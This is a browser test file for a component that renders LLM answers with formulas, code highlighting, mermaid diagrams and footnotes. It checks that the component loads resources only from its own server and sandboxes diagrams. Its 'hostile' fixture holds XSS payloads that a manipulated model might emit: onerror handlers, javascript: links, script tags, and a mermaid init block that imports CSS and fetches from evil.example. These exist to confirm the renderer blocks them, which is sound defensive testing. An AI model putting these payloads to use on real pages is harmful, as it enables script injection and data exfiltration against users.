/** What few answers have: colours, formulas, diagrams, images, footnotes, in each browser against the real server. */
import {resolve} from 'node:path';
import {setTimeout as sleep} from 'node:timers/promises';
import {expect} from 'chai';
import {openAiStandIn} from '../../support/openai-stand-in.ts';
import {serveHost} from '../../support/pages/serve-host.ts';
import {type TestPage, useBrowser} from '../../support/pages/use-browser.ts';
import {runServer} from '../../support/run-server.ts';

const CORPUS = resolve(import.meta.dirname, '../../fixtures/corpus');
const QUESTION = 'What causes the tides of the sea?';

const ordinary = '## Tides\n\nThe **moon** pulls [1]. It costs $5 and $10.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- one\n- two\n\n```\nplain code\n```\n';
const rich = `A note[^why].

\`\`\`js
const tide = "high"; // twice a day
\`\`\`

Inline $a^2$, and

$$
\\frac{1}{2}
$$

\`\`\`mermaid
flowchart LR
  Moon --> Tide
  Sun -->|less| Tide
\`\`\`

[^why]: The note.
`;

/** What a hostile source may have made a model write. */
const hostile = `<img src=https://evil.example/raw.png onerror=harmed()> ![a](https://evil.example/image.png?q=secret) [x](javascript:harmed()) <https://evil.example/auto>

[^n]: ![n](https://evil.example/note.png) <script>harmed()</script>

See[^n] $\\href{javascript:harmed()}{x}$ and \\(\\includegraphics{https://evil.example/math.png}\\).

\`\`\`mermaid
%%{init: {"securityLevel": "loose", "htmlLabels": true, "themeCSS": "@import url(https://evil.example/theme.css); * {background: url(https://evil.example/theme.png)}"}}%%
flowchart LR
  A["<img src=https://evil.example/label.png onerror='parent.harmed(); fetch(\\"https://evil.example/fetch\\")'>"] --> B
  click A href "javascript:harmed()"
  click B call harmed()
  style A fill:url(https://evil.example/fill.png)
\`\`\`

\`\`\`html"><img src=https://evil.example/info.png>
<script>harmed()</script>
\`\`\`
`;

describe('rich answers', () => {
  const browser = useBrowser();

  /** Asks a model that says a text, and hands over the page at the end of its answer. @param prepare - Is given the page before. */
  async function answered(text: string, test: (page: TestPage, server: string) => Promise<void>, prepare: (page: TestPage) => Promise<unknown> = () => Promise.resolve()): Promise<void> {
    const llm = await openAiStandIn({writer: {tokens: text.match(/[^]{1,7}/g) ?? []}});
    try {
      await using server = await runServer({CORPUS, LLM_BASE_URL: llm.url, LLM_ANALYSIS: 'off', LLM_RELATED: 'off'});
      await browser.page(async (page) => {
        await page.goto(server.url);
        await prepare(page);
        await page.ask(QUESTION);
        await page.waitFor('llm-window:state(done)');
        await test(page, server.url);
      });
    } finally {
      await llm.close();
    }
  }

  it('load nothing of it when an answer is an ordinary one', async () => {
    await answered(ordinary, async (page) => {
      await sleep(1_500); // longer than code waits for an idle moment
      const fetched = await page.run(() => performance.getEntriesByType('resource').map(({name}) => name));
      expect(fetched.filter((url) => /color-code|typeset-math|draw-diagram|diagram\/|languages/.test(url))).to.deep.equal([]);
      expect(await page.count('llm-answer >> .math')).to.equal(0);
    });
  });

  it('have colours, formulas, footnotes and diagrams, under a strict policy and from this server alone', async () => {
    await answered(rich, async (page, server) => {
      await page.until('llm-answer >> .math', (texts) => texts.length === 2 && texts.every((text) => !/[$\\]/.test(text)));
      await page.until('llm-answer >> .diagram.drawn', (texts) => texts.length === 1);
      await page.run(async () => {
        while ((CSS.highlights.get('llm-code-keyword')?.size ?? 0) === 0) await new Promise((soon) => setTimeout(soon, 30));
      });
      const [height = 0] = await page.each('llm-answer >> .diagram iframe', ({offsetHeight}) => offsetHeight);
      expect(height).to.be.greaterThan(40);
      expect(await page.each('llm-answer >> .diagram pre', (pre) => pre.checkVisibility())).to.deep.equal([false]);
      await page.click('llm-answer >> .diagram-source');
      expect(await page.text('llm-answer >> .diagram pre')).to.contain('Moon --> Tide');
      await page.click('llm-answer >> .footnote button');
      expect(await page.each('llm-answer >> .footnotes li', (item) => item.matches(':focus'))).to.deep.equal([true]);
      expect([...page.origins]).to.deep.equal([server]);
    });
  });

  it('have the picture of a diagram in a frame that has no origin and may load nothing', async () => {
    await answered(rich, async (page, server) => {
      await page.waitFor('llm-answer >> .diagram.drawn iframe');
      const {origin, text} = await page.runWithin('llm-answer >> .diagram iframe', () => ({origin: self.origin, text: document.querySelector('svg')?.textContent}));
      expect(origin).to.equal('null');
      expect(text).to.contain('Moon').and.contain('less');
      const {headers} = await fetch(`${server}/diagram/`);
      expect(headers.get('content-security-policy')).to.contain("default-src 'none'").and.contain('sandbox allow-scripts').and.contain('frame-ancestors *');
      expect(headers.get('x-frame-options')).to.be.null;
    });
  });

  it('show the source of a diagram that makes no sense', async () => {
    await answered('```mermaid\nflowchart nonsense ((\n```\n', async (page) => {
      await sleep(2_500);
      expect(await page.each('llm-answer >> .diagram pre', (pre) => pre.checkVisibility())).to.deep.equal([true]);
      expect(await page.count('llm-answer >> iframe')).to.equal(0);
    });
  });

  it('run no script and reach no other host, whatever they say', async () => {
    await answered(hostile, async (page, server) => {
      await page.waitFor('llm-answer >> pre');
      await sleep(3_000); // for the frame to try
      expect(await page.run(() => (window as unknown as {harms: number}).harms)).to.equal(0);
      expect([...page.origins].filter((origin) => origin !== server)).to.deep.equal([]);
      const addresses = await page.each('llm-answer >> :is([href], [src], [onerror], [onclick])', ({outerHTML}) => outerHTML);
      expect(addresses.filter((html) => /javascript:|\son\w+=/i.test(html.replaceAll(/data-\w+="[^"]*"/g, '')))).to.deep.equal([]);
    }, arm);
  });

  /** What harms says so. */
  const arm = (page: TestPage) => page.run(() => void Object.assign(window, {harms: 0, harmed: () => ((window as unknown as {harms: number}).harms += 1)}));

  describe('on a page of another origin', () => {
    /** Shows the answer under a policy with these directives added; says whether the diagram was drawn. */
    const shown = async (allows: (server: string) => string, problems?: RegExp) => {
      await using host = await serveHost();
      const llm = await openAiStandIn({writer: {tokens: [rich]}});
      try {
        await using server = await runServer({CORPUS, ALLOWED_ORIGINS: host.url, LLM_BASE_URL: llm.url, LLM_ANALYSIS: 'off', LLM_RELATED: 'off'});
        host.show({server: server.url, body: `<llm-window question="${QUESTION}"></llm-window>`, more: allows(server.url)});
        return await browser.page(
          async (page) => {
            await page.goto(host.url);
            await page.waitFor('llm-window:state(done)');
            await page.until('llm-answer >> .math', (texts) => texts.length === 2 && texts.every((text) => !/[$\\]/.test(text)));
            await page.waitFor('llm-answer >> .diagram pre', {gone: problems === undefined});
            return (await page.count('llm-answer >> .diagram.drawn')) === 1;
          },
          problems && {allows: problems},
        );
      } finally {
        await llm.close();
      }
    };

    it('are styled by its style sheet, part by part, and link to images that its policy keeps out', async () => {
      const parts = ['question', 'form__box', 'progress__summary', 'sources__source', 'sources__trust', 'answer__head', 'answer__text', 'answer__citation', 'answer__footnote', 'answer__image', 'answer__diagram', 'answer__copy-code', 'answer__facts', 'answer__card'];
      const css = parts.map((part, index) => `llm-window::part(${part}) { scroll-margin-inline-start: ${index + 1}px; }`).join('\n');
      await using host = await serveHost();
      const llm = await openAiStandIn({writer: {tokens: [`The moon [1].\n\n![A tide](${host.url.replace('127.0.0.1', 'localhost')}/tide.png)\n\n${rich}`]}});
      await using server = await runServer({CORPUS, ALLOWED_ORIGINS: host.url, LLM_BASE_URL: llm.url, LLM_ANALYSIS: 'off', LLM_RELATED: 'off'});
      host.show({server: server.url, body: `<llm-window question="${QUESTION}"></llm-window>`, more: `frame-src ${server.url}`, css});
      await browser.page(
        async (page) => {
          await page.goto(host.url);
          await page.until('llm-answer >> .diagram.drawn', (texts) => texts.length === 1);
          await page.each('llm-answer >> .citation', (element) => element.dispatchEvent(new PointerEvent('pointerover', {bubbles: true})));
          await page.waitFor('llm-answer >> [part=card]');
          const styled = await page.each('llm-window >> [part]', (element) => parseFloat(getComputedStyle(element).scrollMarginInlineStart));
          expect(parts.filter((_, index) => !styled.includes(index + 1))).to.deep.equal([]);
          await page.each('llm-answer >> .citation', (element) => element.dispatchEvent(new PointerEvent('pointerout', {bubbles: true})));
          await page.waitFor('llm-answer >> .card-title', {gone: true});
          await page.click('llm-answer >> button.image');
          await page.waitFor('llm-answer >> a.image');
        },
        {allows: /img-src|tide\.png/},
      );
      await llm.close();
    });

    it('have diagrams where its policy lets the server’s frames in', async () => {
      expect(await shown((server) => `frame-src ${server}/diagram/`)).to.equal(true);
    });

    it('show the source of a diagram where it does not', async () => {
      expect(await shown(() => '', /frame/)).to.equal(false);
    });
  });
});
